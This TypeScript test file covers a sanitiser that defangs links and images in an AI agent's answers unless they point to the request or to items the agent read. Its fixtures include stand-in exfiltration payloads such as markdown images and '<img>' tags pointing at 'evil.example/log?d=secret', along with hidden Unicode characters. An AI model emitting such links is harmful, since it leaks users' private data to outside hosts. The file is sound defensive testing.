import fc from "fast-check";
import { fromMarkdown } from "mdast-util-from-markdown";
import { gfmFromMarkdown } from "mdast-util-gfm";
import { gfm } from "micromark-extension-gfm";
import { describe, expect, it } from "vitest";
import { delivers, jobWith, resultsIn, says, startRun, use } from "./agent-fixture.ts";
import { inertText } from "../../../shared/agent/answer-links.ts";

const link = "https://contoso.sharepoint.com/sites/hr/Policy%20(2027).docx";
const known = new Set([link, "m365://mail/me/1", "https://help.example"]);
const evil = "https://evil.example/log?d=secret";

describe("the text of an answer", () => {
  it.each([
    ["a link to what was read", `See [the policy](${link}).`],
    ["its bare address", `See ${link}.`],
    ["its address between brackets", `See <${link}>.`],
    ["structure", "# Policy\n\n- 30 days\n- `code`\n\n| a | b |\n| - | - |\n| 1 | 2 |"],
  ])("keeps %s", (_what, text) => {
    expect(inertText(text, known)).toBe(text);
  });

  it.each([
    ["a link elsewhere", `[the policy](${evil})`, `[the policy] (\`${evil}\`)`],
    ["a bare address", `See ${evil}.`, `See \`${evil}\`.`],
    ["a picture", `![x](${evil})`, `! [x] (\`${evil}\`)`],
    ["a picture of what was read", `![x](${link})`, `! [x] (${link})`],
    ["a link that goes on", `[x](${link}?d=secret)`, `[x] (\`${link}?d=secret\`)`],
    [
      "another host in front",
      `[x](https://evil.example/${link})`,
      `[x] (\`https://evil.example/${link}\`)`,
    ],
    ["a link within a label", `[![x](${evil})](${link})`, `[! [x] (\`${evil}\`)] (\`${link}\`)`],
    ["a label that hides another address", `[${evil}](${link})`, `[\`${evil}\`](${link})`],
    [
      "an address that goes on where it seems to end",
      `<https://help.example|@evil.example>`,
      `< \`https://help.example\`|@evil.example>`,
    ],
    ["a definition", `[x][1]\n\n[1]: ${evil}`, `[x][1]\n\n[1] : \`${evil}\``],
    ["HTML", `<img src="${evil}">`, `< img src="\`${evil}\`">`],
    ["a link with the scheme of the page", "[x](//evil.example)", "[x] (//evil.example)"],
    ["a data address", "[x](data:text/html,hi)", "[x] (data:text/html,hi)"],
    ["what nobody sees", "a\u200bb\u{e0041}", "ab"],
    ["what an escaped bracket would widen", `\\<${link}>`, `\\< \`${link}\`>`],
    ["marks of its own", "\uE0000\uE001 [x](m365://mail/me/1)", "0 [x](m365://mail/me/1)"],
  ])("makes inert %s", (_what, text, shown) => {
    expect(inertText(text, known)).toBe(shown);
  });

  it("never holds a link or picture of anything else, whatever it is made of", () => {
    const piece = fc.constantFrom(
      "[",
      "]",
      "(",
      ")",
      "!",
      "<",
      ">",
      "`",
      "\\",
      "\n",
      " ",
      ":",
      "x",
      link,
      evil,
      "//",
      "\uE000",
      "\uE001",
      "0",
      "[1]: ",
    );

    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const targets = targetsIn(parsed(inertText(pieces.join(""), known)));

        expect(targets.filter((url) => !known.has(url))).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });

  it("is made inert in no time, whatever it is made of", () => {
    const walls = ["[", "[](", "(", "[x](", "!", "`", "http://", "[a](b(", "\uE000"];

    const lengths = walls.map(
      (wall) => inertText(wall.repeat(100_000 / wall.length), known).length,
    );

    expect(lengths).toHaveLength(walls.length);
  }, 10_000);
});

function parsed(markdown: string) {
  return fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] });
}

type Node = ReturnType<typeof fromMarkdown> | { type: string; url?: string; children?: Node[] };

function targetsIn(node: Node): string[] {
  const own = "url" in node && node.url !== undefined ? [node.url] : [];
  const html = node.type === "html" ? ["html"] : [];
  return [...own, ...html, ...((node as { children?: Node[] }).children ?? []).flatMap(targetsIn)];
}

describe("links that a run answers with", () => {
  const uri = "m365://mail/me/1";
  const mail = { uri, subject: "Parcel", link, text: "Track it at `https://parcel.example/1`." };
  const read = () => says([use("read_resource", { uri })]);
  const withData = (url: string) => delivers({ text: "Ok.", data: { url } });
  const job = jobWith({
    prompt: "Where is the parcel? Name https://help.contoso.com, too.",
    outputSchema: { type: "object", properties: { url: { type: "string" } }, required: ["url"] },
  });
  const go = async (script: Parameters<typeof startRun>[0]["script"], asked = job) =>
    await startRun({ job: asked, script, tools: { read_resource: () => mail } }).go();

  it("are those of the request and of the items that were read", async () => {
    const text = `[Mail](${link}) [Help](https://help.contoso.com) [Track](https://parcel.example/1)`;

    const end = await go([read(), delivers({ text })], { ...job, outputSchema: undefined });

    expect(end).toMatchObject({
      answer: {
        text: `[Mail](${link}) [Help](https://help.contoso.com) [Track] (\`https://parcel.example/1\`)`,
      },
    });
  });

  it("are inert where the model answers without delivering", async () => {
    const plain = says(`See ![x](${evil})`);

    const end = await go([plain, plain], { ...job, outputSchema: undefined });

    expect(end).toMatchObject({ answer: { text: `See ! [x] (\`${evil}\`)` } });
  });

  it("are inert within a quote, too", async () => {
    const citations = [{ uri, quote: `[Track it](${evil})` }];

    const end = await go([read(), delivers({ text: "Ok.", citations })], {
      ...job,
      outputSchema: undefined,
    });

    expect(end).toMatchObject({ answer: { citations: [{ quote: `[Track it] (\`${evil}\`)` }] } });
  });

  it.each(["https://parcel.example/1", link, "https://help.contoso.com", "none"])(
    "may stand in data when they were read or asked for: %s",
    async (url) => {
      const end = await go([read(), withData(url)]);

      expect(end).toMatchObject({ next: "answered", answer: { data: { url } } });
    },
  );

  it.each([evil, `<img src="${evil}">`, "<img src=//evil.example/secret>", `${link}?d=secret`])(
    "in data that stand nowhere are asked to be left out, once: %s",
    async (url) => {
      const mended = await go([read(), withData(url), withData("none")]);
      const stubborn = await go([read(), withData(url), withData(url)]);

      expect(resultsIn(mended.state.messages).at(-1)).toMatchObject({
        isError: true,
        content: { notDelivered: ["data holds a link that stands in nothing that was read"] },
      });
      expect(mended).toMatchObject({ next: "answered", answer: { data: { url: "none" } } });
      expect(stubborn).toMatchObject({ next: "failed", failure: { code: "answer_invalid" } });
    },
  );
});
